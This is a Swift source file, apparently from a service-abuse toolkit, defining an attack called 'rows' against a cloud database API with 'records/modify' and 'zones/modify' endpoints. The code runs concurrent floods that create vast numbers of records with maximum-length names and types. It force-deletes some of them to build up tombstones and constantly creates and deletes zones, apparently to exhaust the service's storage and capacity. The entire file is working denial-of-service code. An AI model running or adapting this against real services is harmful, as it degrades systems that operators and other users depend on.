import System

/// What has names and no fields: records, their tombstones, and zones that come and go.
struct RowsWithoutFields: Attack {
    let name = "rows"

    func begin(_ abuser: Abuser) -> [Flood] {
        var user = abuser.user
        user.clientID = String(repeating: "c", count: 255)
        let type = String(repeating: "T", count: 255)
        let zone = String(repeating: "z", count: 255)
        let long = String(repeating: "n", count: 240)
        let requests = abuser.requests
        var count = 100_000_000_000_000
        func records(_ operation: String, _ names: [String]) -> [UInt8] {
            let operations = names.map {
                #"{"operationType":"\#(operation)","record":{"recordName":"\#($0)","recordType":"\#(type)"}}"#
            }
            return requests.database("records/modify", Abuser.modify(operations, zone: zone), from: user)
        }
        func fresh() -> [String] {
            (0..<200).map { _ in
                count += 1
                return long + String(count)
            }
        }
        var made: [[String]] = []
        var turn = 0
        var zones = 0
        return [
            Flood(abuser, connections: 1) {
                requests.database("zones/modify", Abuser.zone(zone, "create"), from: user)
            },
            Flood(abuser, connections: 3) {
                turn += 1
                // One of four is deleted again: a tombstone has all that a record has.
                if turn % 4 == 0, let names = made.popLast() { return records("forceDelete", names) }
                made.append(fresh())
                return records("create", made[made.count - 1])
            },
            Flood(abuser, connections: 1) {
                zones += 1
                let name = String(zone.dropLast(15)) + String(100_000_000_000_000 + zones / 2)
                return requests.database(
                    "zones/modify", Abuser.zone(name, zones % 2 == 0 ? "create" : "delete"), from: user)
            },
        ]
    }
}
